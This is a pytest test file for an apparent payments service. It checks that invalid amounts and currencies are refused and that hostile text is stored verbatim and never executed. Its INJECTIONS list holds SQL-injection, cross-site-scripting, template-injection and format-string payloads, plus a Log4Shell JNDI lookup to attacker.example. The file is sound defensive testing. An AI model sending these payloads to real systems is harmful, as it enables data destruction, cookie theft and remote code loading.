"""Values a hostile or careless merchant sends: impossible amounts, made-up currencies, and
injection strings, which are stored and returned verbatim and never executed."""

import sqlite3
from contextlib import closing

import httpx
import pytest

from fincore.lab.clients import PaymentsAPI, PSPBrowserAPI

INJECTIONS = [
    "'; DROP TABLE payments; --",
    "Robert'); DROP TABLE idempotency_keys;--",
    '" OR 1=1 --',
    "1; UPDATE payments SET amount = 1 WHERE 1=1; --",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://attacker.example/a}",
    "%s%s%s%n",
    "\x00 NUL and \u202e right-to-left override",
]


@pytest.mark.parametrize("amount", [0, -1, -100])
def test_zero_and_negative_amounts_are_refused(merchant, shopper, amount):
    response = merchant.pay(shopper.token_id(), amount=amount)
    assert (response.status, response.error["code"], response.error["param"]) == (
        400,
        "amount_invalid",
        "amount",
    )


@pytest.mark.parametrize("amount", [0, -1])
def test_the_psp_refuses_zero_and_negative_charges(stack, amount):
    response = httpx.post(
        f"{stack.info.psp_url}/v1/charges",
        json={"token": "tok_x", "merchant": "m", "amount": amount, "currency": "usd"},
        headers={"Authorization": f"Bearer {stack.info.platform_key}"},
    )
    assert response.status_code == 400
    assert response.json()["error"]["param"] == "amount"


@pytest.mark.parametrize(
    "currency", ["xyz", "US", "usdd", "", "ÜSD", "usd\x00", "ｕｓｄ", "İsd", "us d", "12$"]
)
def test_unknown_currencies_are_refused_by_name(merchant, shopper, currency):
    response = merchant.pay(shopper.token_id(), currency=currency)
    assert (response.status, response.error["code"], response.error["param"]) == (
        400,
        "currency_invalid",
        "currency",
    )


def test_a_refused_payment_stores_nothing(merchant, shopper):
    before = merchant.list(limit=100).body["data"]
    for amount, currency in [(0, "usd"), (100, "xyz"), (10**12, "usd")]:
        assert merchant.pay(shopper.token_id(), amount=amount, currency=currency).status == 400
    assert merchant.list(limit=100).body["data"] == before


@pytest.fixture(scope="module")
def injected(stack):
    """One payment per injection string, in its description and as a metadata key and value."""
    info = stack.info
    shopper = PSPBrowserAPI(info.psp_url, info.merchants[0].publishable_key)
    merchant = PaymentsAPI(info.payments_url, info.merchants[0].secret_key)
    created = {}
    for text in INJECTIONS:
        response = merchant.pay(
            shopper.token_id(), description=text, metadata={text[:40]: text, "plain": "ok"}
        )
        assert response.status == 201, response.body
        created[text] = response.body
    shopper.close()
    merchant.close()
    return created


def test_injection_strings_come_back_verbatim(merchant, injected):
    for text, payment in injected.items():
        fetched = merchant.get(payment["id"]).body
        for seen in (payment, fetched):
            assert seen["description"] == text
            assert seen["metadata"] == {text[:40]: text, "plain": "ok"}
            assert seen["amount"] == 1000


def test_injection_strings_are_data_in_a_json_response_never_markup(merchant, injected):
    payment = next(iter(injected.values()))
    response = merchant._http.get(f"/v1/payments/{payment['id']}")
    assert response.headers["Content-Type"] == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")


def test_the_tables_survive_every_injection(stack, merchant, injected):
    ids = {payment["id"] for payment in injected.values()}
    listed = {p["id"]: p for p in merchant.list(limit=100).body["data"]}
    assert ids <= set(listed)
    assert {listed[i]["amount"] for i in ids} == {1000}
    database = stack.info.data_dir / "payments" / "payments.db"
    with closing(sqlite3.connect(f"{database.resolve().as_uri()}?mode=ro", uri=True)) as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master")}
        stored = db.execute("SELECT description FROM payments").fetchall()
    assert {"payments", "idempotency_keys"} <= tables
    assert set(INJECTIONS) <= {row[0] for row in stored}
